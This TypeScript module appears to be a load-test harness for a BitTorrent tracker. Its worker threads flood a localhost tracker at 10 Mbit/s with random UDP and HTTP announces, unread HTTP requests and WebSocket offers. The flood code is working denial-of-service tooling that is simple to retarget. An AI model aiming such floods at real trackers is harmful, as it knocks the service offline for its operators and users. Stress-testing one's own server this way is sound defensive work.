import { randomBytes } from 'node:crypto'
import { createSocket } from 'node:dgram'
import { connect, type Socket } from 'node:net'
import { parentPort, workerData } from 'node:worker_threads'
import WebSocket from 'ws'
import { percentEncoded, UdpClient } from './udp-client.ts'

/** Attacks of one address, each at ATTACK_BYTES_PER_SECOND. */
export const ATTACKS = [
  'UDP announces of new torrents',
  'UDP announces of new seeders in one torrent',
  'UDP downloads of new torrents',
  'HTTP announces of new torrents',
  'HTTP requests whose answers are not read',
  'WebSocket offers',
] as const
export type Attack = (typeof ATTACKS)[number]

export type AttackerData = {
  readonly attack: Attack
  readonly port: number
  /** A port that receives the same traffic in the mode `sink`; see attack-sink.ts. */
  readonly sinkPort?: number
  /** A torrent with honest peers. */
  readonly infoHash: Uint8Array
}

/** Messages to the attacker. It answers `pause` with the number of packets and messages it sent. */
export type AttackerMode = 'attack' | 'sink' | 'pause'

/** 10 Mbit/s. */
const ATTACK_BYTES_PER_SECOND = 1_250_000
const TICK_MILLIS = 10
const PER_TICK = (ATTACK_BYTES_PER_SECOND * TICK_MILLIS) / 1000
/** A link does not deliver a longer burst at once, even if this thread was late. */
const BURST_TICKS = 5
/** Bytes of the IPv4 and UDP headers. */
const UDP_HEADER_BYTES = 28
const ADDRESS = '127.0.0.2'
const PENDING_BYTES_MAX = 2 ** 20

/** Sends one packet or message and returns its bytes, or 0 if the receiver does not read. */
type Send = () => number

/** Sends at the rate of the attack to the receiver of the current mode. Connections stay open. */
function flood(senders: Readonly<Partial<Record<AttackerMode, Send>>>): void {
  let send: Send | undefined
  let sent = 0
  parentPort?.on('message', (mode: AttackerMode) => {
    send = senders[mode]
    if (mode === 'pause') parentPort?.postMessage(sent)
  })
  let due = 0
  setInterval(() => {
    if (!send) return
    due = Math.min(due + PER_TICK, PER_TICK * BURST_TICKS)
    while (due > 0) {
      const bytes = send()
      if (bytes === 0) break
      sent++
      due -= bytes
    }
  }, TICK_MILLIS)
}

async function openUdp({ attack, infoHash }: AttackerData, port: number): Promise<Send> {
  const client = new UdpClient(createSocket('udp4'), port)
  await client.open(ADDRESS)
  setInterval(() => void client.connect(), 60_000)
  const event = attack === 'UDP downloads of new torrents' ? 1 : 0
  const isOneTorrent = attack === 'UDP announces of new seeders in one torrent'
  return () => {
    const packet = client.announcePacket({
      infoHash: isOneTorrent ? infoHash : randomBytes(20),
      peerId: randomBytes(20),
      port: 1024 + Math.floor(Math.random() * 60_000),
      left: 0,
      event,
    })
    client.send(packet)
    return packet.length + UDP_HEADER_BYTES
  }
}

function openHttp({ attack }: AttackerData, port: number): Send {
  let socket: Socket | undefined
  const isRead = attack === 'HTTP announces of new torrents'
  const open = () => {
    socket = connect({ port, host: '127.0.0.1', localAddress: ADDRESS })
    socket.on('error', () => {})
    socket.once('close', () => setTimeout(open, 100))
    if (isRead) socket.resume()
    else socket.pause()
  }
  open()
  return () => {
    if (!socket?.writable || socket.writableLength > PENDING_BYTES_MAX) return 0
    const target = isRead
      ? `/announce?info_hash=${percentEncoded(randomBytes(20))}&peer_id=${percentEncoded(randomBytes(20))}&port=6881&left=0`
      : '/x'
    const request = `GET ${target} HTTP/1.1\r\nhost: x\r\n\r\n`
    socket.write(request)
    return request.length
  }
}

function openWebsocket({ infoHash }: AttackerData, port: number): Send {
  let socket: WebSocket | undefined
  const open = () => {
    socket = new WebSocket(`ws://127.0.0.1:${port}/announce`, { localAddress: ADDRESS })
    socket.on('error', () => {})
    socket.once('close', () => setTimeout(open, 100))
  }
  open()
  const sdp = 'v=0'.padEnd(1000, ' ')
  return () => {
    if (socket?.readyState !== WebSocket.OPEN || socket.bufferedAmount > PENDING_BYTES_MAX) return 0
    const offers = Array.from({ length: 5 }, () => ({
      offer_id: randomBytes(10).toString('hex'),
      offer: { type: 'offer', sdp },
    }))
    const message = JSON.stringify({
      action: 'announce',
      info_hash: Buffer.from(infoHash).toString('latin1'),
      peer_id: '-EV0001-000000000000',
      left: 1,
      offers,
    })
    socket.send(message)
    return message.length
  }
}

async function openSender(data: AttackerData, port: number): Promise<Send> {
  if (data.attack.startsWith('UDP')) return openUdp(data, port)
  return data.attack.startsWith('HTTP') ? openHttp(data, port) : openWebsocket(data, port)
}

const data = workerData as AttackerData | undefined
if (data) {
  const attack = await openSender(data, data.port)
  flood(data.sinkPort ? { attack, sink: await openSender(data, data.sinkPort) } : { attack })
}
